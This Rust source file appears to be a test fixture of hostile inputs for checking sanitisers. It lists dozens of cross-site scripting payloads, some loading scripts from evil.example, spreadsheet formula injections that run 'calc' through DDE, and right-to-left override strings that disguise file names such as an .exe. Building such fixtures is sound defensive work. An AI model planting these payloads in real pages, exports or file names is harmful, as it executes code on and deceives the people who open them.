//! Texts that try to run in a browser, in a spreadsheet, or to turn what stands beside them.

/// What would call `alert` where it is taken for markup, in each place where text can stand.
pub const SCRIPTS: [&str; 58] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(4)//",
    "</title><script>alert(5)</script>",
    "</textarea><script>alert(6)</script>",
    "</script><script>alert(7)</script>",
    "</style><script>alert(8)</script>",
    "--><script>alert(9)</script>",
    "]]><script>alert(10)</script>",
    "\"><script>alert(11)</script>",
    "'><script>alert(12)</script>",
    "<img src=x onerror=alert(13)>",
    "<img src=x:x onerror='alert(14)'>",
    "<img/src/onerror=alert(15)>",
    "\"><img src=x onerror=alert(16)>",
    "\" onfocus=alert(17) autofocus=\"",
    "' onmouseover=alert(18) x='",
    "\" style=animation-name:x onanimationstart=alert(19) \"",
    "\" autofocus onfocus=\"alert(20)",
    "<svg onload=alert(21)>",
    "<svg><script>alert(22)</script></svg>",
    "<svg><animate onbegin=alert(23) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(24)><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,%3Csvg%20onload=alert(25)%3E>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(26)>",
    "<math href=javascript:alert(27)>x</math>",
    "<body onload=alert(28)>",
    "<iframe src=javascript:alert(29)></iframe>",
    "<iframe srcdoc='<script>parent.alert(30)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(31)</script>></object>",
    "<embed src=javascript:alert(32)>",
    "<a href=javascript:alert(33)>x</a>",
    "<a href=\"java&#115;cript:alert(34)\">x</a>",
    "<a href='&#x6a;avascript:alert(35)'>x</a>",
    "<form action=javascript:alert(36)><button>x</button></form>",
    "<button formaction=javascript:alert(37)>x</button>",
    "<input onfocus=alert(38) autofocus>",
    "<select onfocus=alert(39) autofocus>",
    "<textarea onfocus=alert(40) autofocus>",
    "<details open ontoggle=alert(41)>",
    "<video><source onerror=alert(42)></video>",
    "<audio src=x onerror=alert(43)>",
    "<marquee onstart=alert(44)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(45)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<template><script>alert(49)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(50)>'>",
    "<xss id=x tabindex=1 onfocusin=alert(51)>",
    "<dialog open onclose=alert(52)>",
    "&lt;script&gt;alert(53)&lt;/script&gt;",
    "{{constructor.constructor('alert(54)')()}}",
    "${alert(55)}<!--#exec cmd=x-->",
    "javascript:alert(56)",
    "<p popover id=x onbeforetoggle=alert(57)>x</p><button popovertarget=x autofocus>y</button>",
    "\u{FF1C}script\u{FF1E}alert(58)\u{FF1C}/script\u{FF1E}<scr\u{0}ipt>alert(58)</script>",
];

/// What a spreadsheet would work out (threat T10).
pub const FORMULAS: [&str; 10] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{FF1D}1+1",
];

/// What turns the text around it: overrides, embeddings, isolates, marks.
pub const TURNING: [&str; 6] = [
    "invoice\u{202E}gpj.exe",
    "\u{202D}left\u{202C}",
    "\u{2067}right to left\u{2069}",
    "\u{2066}unclosed",
    "a\u{200F}b\u{200E}c\u{061C}d",
    "\u{202B}embedded \u{202A}twice",
];

/// The characters of [`TURNING`] that turn.
pub fn turns(c: char) -> bool {
    matches!(c, '\u{200E}' | '\u{200F}' | '\u{061C}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// All of them.
pub fn all() -> Vec<&'static str> {
    SCRIPTS.iter().chain(&FORMULAS).chain(&TURNING).copied().collect()
}
